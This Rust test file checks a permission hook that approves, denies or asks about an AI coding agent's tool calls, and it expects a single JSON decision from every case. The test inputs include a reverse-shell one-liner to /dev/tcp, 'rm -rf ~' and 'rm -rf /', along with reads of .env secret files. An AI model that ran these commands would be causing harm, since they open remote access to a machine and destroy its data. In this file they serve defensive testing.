//! Golden tests of `mstro-bouncer hook`: exact stdout for each input, exit code 0
//! always. The expected outputs are `insta` snapshots in `tests/snapshots/hook/`; after
//! an intended change, see "Snapshots" in docs/architecture.md to update and review them.

use crate::common;

use common::{HOME, bouncer, pipe};

/// Run the hook with a fixed environment, so outputs do not depend on the machine.
fn run_hook(args: &[&str], stdin: &[u8]) -> (String, i32) {
    let out = pipe(
        bouncer(["hook"])
            .args(args)
            .env_clear()
            .env("HOME", HOME)
            .env("CLAUDE_PROJECT_DIR", "/home/dev/project")
            .env("PATH", "/usr/bin:/bin"),
        stdin,
    );
    (
        String::from_utf8(out.stdout).expect("UTF-8 output"),
        out.status.code().unwrap_or(-1),
    )
}

fn event(tool: &str, input: serde_json::Value) -> Vec<u8> {
    serde_json::json!({
        "session_id": "cef88675-ce4b-49a9-aa3f-d10cb60e2195",
        "transcript_path": "/home/dev/.claude/projects/-home-dev-project/cef88675.jsonl",
        "cwd": "/home/dev/project",
        "prompt_id": "b7336382-70a3-447d-bd9a-64a2a077eeac",
        "permission_mode": "default",
        "effort": {"level": "high"},
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": input,
        "tool_use_id": "toolu_01a91d811c6d37491186906b",
        "a_field_from_the_future": true
    })
    .to_string()
    .into_bytes()
}

fn cases() -> Vec<(&'static str, Vec<&'static str>, Vec<u8>)> {
    use serde_json::json;
    vec![
        ("deny-rm-home", vec![], event("Bash", json!({"command": "rm -rf ~", "description": "Clean up"}))),
        ("deny-reverse-shell", vec![], event("Bash", json!({"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}))),
        ("ask-git-reset", vec![], event("Bash", json!({"command": "git reset --hard HEAD~2"}))),
        ("ask-write-profile", vec![], event("Write", json!({"file_path": "/home/dev/.bashrc", "content": "alias x=y\n"}))),
        ("ask-read-secret", vec![], event("Read", json!({"file_path": "/home/dev/project/.env"}))),
        ("allow-rule-git-status", vec![], event("Bash", json!({"command": "git status && git diff --stat"}))),
        ("allow-default-unknown", vec![], event("Bash", json!({"command": "frobnicate --all"}))),
        ("allow-edit-project", vec![], event("Edit", json!({"file_path": "/home/dev/project/src/main.rs", "old_string": "a", "new_string": "b"}))),
        ("deny-mcp-command", vec![], event("mcp__shell__run", json!({"command": "rm -rf /"}))),
        ("headless-review-denies", vec!["--mode", "headless"], event("Bash", json!({"command": "git push --force"}))),
        ("deploy-unvouched-denies", vec!["--mode", "deploy"], event("Bash", json!({"command": "frobnicate --all"}))),
        ("empty-input", vec![], Vec::new()),
        ("malformed-json", vec![], b"{\"tool_name\": \"Bash\", ".to_vec()),
        ("not-an-object", vec![], b"[1, 2, 3]".to_vec()),
        ("missing-command", vec![], event("Bash", json!({"description": "no command"}))),
        ("wrong-event", vec![], br#"{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}"#.to_vec()),
        ("oversized-input", vec![], vec![b' '; 1024 * 1024 + 1]),
        ("bad-arguments", vec!["--mode", "yolo"], event("Bash", json!({"command": "ls"}))),
    ]
}

/// Run one case and compare its output with its snapshot,
/// `tests/snapshots/hook/<name>.snap`.
fn golden(name: &str) {
    let (_, args, stdin) = cases()
        .into_iter()
        .find(|c| c.0 == name)
        .expect("known case");
    let (out, code) = run_hook(&args, &stdin);
    assert_eq!(code, 0, "{name}: the hook must always exit 0");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines.len(),
        1,
        "{name}: exactly one line of output, got {out:?}"
    );
    // The snapshot holds the line; the newline that ends it is checked here.
    assert!(out.ends_with('\n'), "{name}: a whole line, got {out:?}");
    let parsed: serde_json::Value =
        serde_json::from_str(lines[0]).unwrap_or_else(|e| panic!("{name}: not JSON ({e}): {out}"));
    assert_eq!(
        parsed["hookSpecificOutput"]["hookEventName"], "PreToolUse",
        "{name}"
    );
    insta::with_settings!({
        snapshot_path => "snapshots/hook",
        prepend_module_to_snapshot => false,
        omit_expression => true,
        description => name,
    }, {
        insta::assert_snapshot!(name, lines[0]);
    });
}

/// One test per case, so a change shows every case it affects at once.
macro_rules! golden_tests {
    ($($test:ident: $name:literal,)*) => {
        $(
            #[test]
            fn $test() {
                golden($name);
            }
        )*

        #[test]
        fn every_case_has_a_golden_test() {
            let tested = [$($name),*];
            let cases: Vec<&str> = cases().iter().map(|c| c.0).collect();
            assert_eq!(cases, tested);
        }
    };
}

golden_tests! {
    golden_deny_rm_home: "deny-rm-home",
    golden_deny_reverse_shell: "deny-reverse-shell",
    golden_ask_git_reset: "ask-git-reset",
    golden_ask_write_profile: "ask-write-profile",
    golden_ask_read_secret: "ask-read-secret",
    golden_allow_rule_git_status: "allow-rule-git-status",
    golden_allow_default_unknown: "allow-default-unknown",
    golden_allow_edit_project: "allow-edit-project",
    golden_deny_mcp_command: "deny-mcp-command",
    golden_headless_review_denies: "headless-review-denies",
    golden_deploy_unvouched_denies: "deploy-unvouched-denies",
    golden_empty_input: "empty-input",
    golden_malformed_json: "malformed-json",
    golden_not_an_object: "not-an-object",
    golden_missing_command: "missing-command",
    golden_wrong_event: "wrong-event",
    golden_oversized_input: "oversized-input",
    golden_bad_arguments: "bad-arguments",
}

#[test]
fn decisions_are_the_expected_ones() {
    let decision = |name: &str| -> String {
        let (_, args, stdin) = cases()
            .into_iter()
            .find(|c| c.0 == name)
            .expect("known case");
        let (out, _) = run_hook(&args, &stdin);
        let v: serde_json::Value = serde_json::from_str(out.trim()).expect("JSON");
        v["hookSpecificOutput"]["permissionDecision"]
            .as_str()
            .expect("a decision")
            .to_owned()
    };
    for (name, want) in [
        ("deny-rm-home", "deny"),
        ("deny-reverse-shell", "deny"),
        ("ask-git-reset", "ask"),
        ("ask-write-profile", "ask"),
        ("ask-read-secret", "ask"),
        ("allow-rule-git-status", "allow"),
        ("allow-default-unknown", "allow"),
        ("allow-edit-project", "allow"),
        ("deny-mcp-command", "deny"),
        ("headless-review-denies", "deny"),
        ("deploy-unvouched-denies", "deny"),
        ("empty-input", "deny"),
        ("malformed-json", "deny"),
        ("not-an-object", "deny"),
        ("missing-command", "deny"),
        ("wrong-event", "deny"),
        ("oversized-input", "deny"),
        ("bad-arguments", "deny"),
    ] {
        assert_eq!(decision(name), want, "{name}");
    }
}

// The switches that make the hook panic or crash exist in debug builds only (the test
// suite's); a release build ignores them.
#[cfg(debug_assertions)]
#[test]
fn a_panic_still_denies_and_exits_zero() {
    let out = pipe(
        bouncer(["hook"]).env("MSTRO_BOUNCER_PANIC_FOR_TESTS", "1"),
        b"",
    );
    assert_eq!(out.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON decision");
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
    assert!(
        v["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("failed internally")
    );
}

/// A crash (a segfault in C code, an abort, a stack overflow) would otherwise leave
/// Claude Code without a decision, which it treats as no hook at all.
#[cfg(all(unix, debug_assertions))]
#[test]
fn a_crash_still_denies_and_exits_zero() {
    for how in ["segv", "abort", "stack"] {
        let out = pipe(
            bouncer(["hook"]).env("MSTRO_BOUNCER_CRASH_FOR_TESTS", how),
            b"",
        );
        assert_eq!(out.status.code(), Some(0), "{how}");
        let v: serde_json::Value =
            serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{how}: {e}"));
        assert_eq!(
            v["hookSpecificOutput"]["permissionDecision"], "deny",
            "{how}"
        );
        assert!(
            v["hookSpecificOutput"]["permissionDecisionReason"]
                .as_str()
                .unwrap()
                .contains("crashed"),
            "{how}"
        );
    }
}

#[test]
fn deny_reasons_say_what_why_instead_and_how_to_proceed() {
    let (_, args, stdin) = cases().into_iter().find(|c| c.0 == "deny-rm-home").unwrap();
    let (out, _) = run_hook(&args, &stdin);
    let v: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
    let reason = v["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap();
    assert!(reason.contains("`rm -rf ~`"), "what matched: {reason}");
    assert!(
        reason.contains("filesystem.rm-root-or-home"),
        "which rule: {reason}"
    );
    assert!(
        reason.contains("never part of a development task"),
        "why: {reason}"
    );
    assert!(reason.contains("Safer:"), "the safer way: {reason}");
    assert!(
        reason.contains("run it themselves"),
        "how a person proceeds: {reason}"
    );
    assert!(
        reason.len() < 600,
        "short enough for the model to read every time: {}",
        reason.len()
    );
}
